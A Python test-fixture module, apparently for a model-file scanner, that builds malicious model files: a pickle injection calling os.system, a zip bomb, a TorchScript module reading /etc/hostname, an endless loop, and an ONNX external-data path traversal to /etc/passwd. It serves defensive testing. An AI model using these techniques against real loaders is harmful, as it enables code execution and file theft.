"""What is done to a model to make its hostile twin."""
import contextlib
import json
import pickle
import struct
import zipfile

import onnx
import torch
from onnx import TensorProto
from torch import nn

import damage
from damage import Payload, fell


def in_pickle(old, new):
    """Other bytes in the pickle of an archive."""
    def change_file(path):
        with zipfile.ZipFile(path) as archive:
            members = {info.filename: archive.read(info) for info in archive.infolist()}
        with zipfile.ZipFile(path, "w") as archive:
            for member, content in members.items():
                assert not member.endswith("data.pkl") or old in content
                archive.writestr(member, content.replace(old, new, 1) if member.endswith("data.pkl") else content)
    return change_file


def calling(path):
    """The pickle of the archive makes a call before it goes on with what it held."""
    command = f"touch '{damage.MARKER}'".encode()
    call = b"cos\nsystem\nX" + struct.pack("<I", len(command)) + command + b"\x85R0"
    in_pickle(b"\x80\x02", b"\x80\x02" + call)(path)
    with zipfile.ZipFile(path) as archive, contextlib.suppress(Exception):
        pickle.loads(archive.read(next(name for name in archive.namelist() if name.endswith("data.pkl"))))
    fell(path)


def evil_stream(path):
    torch.save({"model": Payload()}, path, _use_new_zipfile_serialization=False)
    torch.load(path)
    fell(path)


def bomb(path):
    """The tensors' records become 300 MB of zeros that the archive packs into 300 kB."""
    with zipfile.ZipFile(path) as archive:
        members = {info.filename: archive.read(info) for info in archive.infolist()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for member, content in members.items():
            archive.writestr(member, bytes(300 << 20) if member.endswith("data/0") else content)


def whole_module(path):
    torch.save(nn.Sequential(nn.Conv2d(3, 4, 3), nn.Flatten()), path)


class ReadsFile(nn.Module):
    """Gives the bytes of a file of the user instead of logits."""

    def forward(self, x):
        stolen = torch.from_file("/etc/hostname", False, 10, dtype=torch.uint8)
        return x.mean([2, 3]).sum(1, keepdim=True) + stolen.float()[None]


class Endless(nn.Module):
    def forward(self, x):
        y = x.mean([2, 3])[:, :1].repeat(1, 10)
        while bool(y.isfinite().all()):
            y = y * 0.5
        return y


def script_of(network):
    return lambda path: torch.jit.script(network.eval()).save(str(path))


def write_header(change):
    """Of safetensors: another header before the same bytes."""
    def change_file(path):
        content = path.read_bytes()
        start = 8 + struct.unpack("<Q", content[:8])[0]
        header = json.loads(content[8:start])
        change(next(value for key, value in header.items() if key != "__metadata__"))
        text = json.dumps(header).encode()
        path.write_bytes(struct.pack("<Q", len(text)) + text + content[start:])
    return change_file


def onnx_changed(change):
    def change_file(path):
        model = onnx.load(str(path))
        change(model)
        path.write_bytes(model.SerializeToString())
    return change_file


def outside(model):
    tensor = model.graph.initializer[0]
    tensor.ClearField("raw_data")
    tensor.data_location = TensorProto.EXTERNAL
    for key, value in (("location", "../../../../etc/passwd"), ("offset", "0"), ("length", "432")):
        tensor.external_data.add(key=key, value=value)


def foreign_operator(model):
    model.graph.node[0].domain = "com.example"
    model.opset_import.add(domain="com.example", version=1)


def claims(model):
    model.graph.initializer[0].dims[0] = 1 << 40
